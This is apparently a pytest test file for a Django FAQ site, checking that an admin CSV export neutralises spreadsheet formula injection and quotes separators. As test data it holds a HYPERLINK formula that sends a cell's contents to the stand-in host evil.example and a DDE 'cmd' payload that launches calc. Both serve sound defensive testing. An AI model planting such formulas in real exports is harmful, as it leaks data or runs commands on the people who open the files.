"""CSV exports cannot carry a live spreadsheet formula: a cell a visitor or a seller typed that
starts with =, +, -, @, a tab or a carriage return is neutralised (a leading apostrophe) in the
one export helper, and text cells are quoted so that a separator inside one cannot start a new
cell where the spreadsheet splits on something else (Excel in a Russian locale splits on ";")."""

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse

from core.csv_export import BOM, csv_text
from faq.models import Article, ArticleVote

from .factories import support_agent

pytestmark = pytest.mark.django_db

CSV_WRITER = re.compile(r"^\s*(import csv\b|from csv import)|text/csv", re.MULTILINE)
AUDIT_PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def gap_report_rows(client) -> list[list[str]]:
    response = client.get(reverse("admin:faq_help_gaps") + "?days=30&format=csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def comments_cell(rows: list[list[str]], article: Article) -> str:
    return next(row for row in rows if row and row[0] == article.title_ru)[3]


def test_the_audits_hyperlink_comment_reaches_the_gap_report_as_text(client):
    article = Article.objects.get(slug="otmena-spora")
    # An anonymous visitor, through the public buttons.
    client.post(reverse("faq:vote", args=[article.category.slug, article.slug]), {"helpful": "no"})
    client.post(reverse("faq:vote_comment", args=[article.category.slug, article.slug]), {"comment": AUDIT_PAYLOAD})
    assert ArticleVote.objects.get(article=article).comment == AUDIT_PAYLOAD

    client.force_login(support_agent(username="sonya"))
    assert comments_cell(gap_report_rows(client), article) == "'" + AUDIT_PAYLOAD


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_formula_start_is_neutralised_in_the_admin_export(client, start):
    # Tab and CR cannot come through the public form (it strips the comment): the row is written
    # as an import or an older version could have left it.
    article = Article.objects.get(slug="otmena-spora")
    comment = f"{start}cmd|' /C calc'!A0"
    ArticleVote.objects.create(article=article, visitor="visitor-1", helpful=False, comment=comment)
    client.force_login(support_agent(username="sonya"))
    assert comments_cell(gap_report_rows(client), article) == "'" + comment


def test_a_separator_inside_a_comment_does_not_start_a_new_cell(client):
    article = Article.objects.get(slug="otmena-spora")
    ArticleVote.objects.create(article=article, visitor="visitor-1", helpful=False, comment="ок;=1+1")
    client.force_login(support_agent(username="sonya"))
    response = client.get(reverse("admin:faq_help_gaps") + "?days=30&format=csv")
    assert '"ок;=1+1"' in response.content.decode("utf-8")


def test_numbers_stay_numbers_and_ordinary_text_is_unchanged():
    text = csv_text([["Споров", 3, -2, Decimal("-1.50"), None], ["кешбэк баллы", 0.5, "", "a-b", "x=1"]])
    assert text == BOM + '"Споров",3,-2,-1.50,""\r\n"кешбэк баллы",0.5,"","a-b","x=1"\r\n'


def test_no_module_but_the_export_helper_writes_csv():
    """Every CSV of the project goes through core/csv_export.py, where the neutralising is."""
    root = pathlib.Path(__file__).resolve().parent.parent
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not path.is_relative_to(root / ".venv")
        and not path.is_relative_to(root / "tests")
        and CSV_WRITER.search(path.read_text(encoding="utf-8"))
    )
    assert writers == ["core/csv_export.py"]
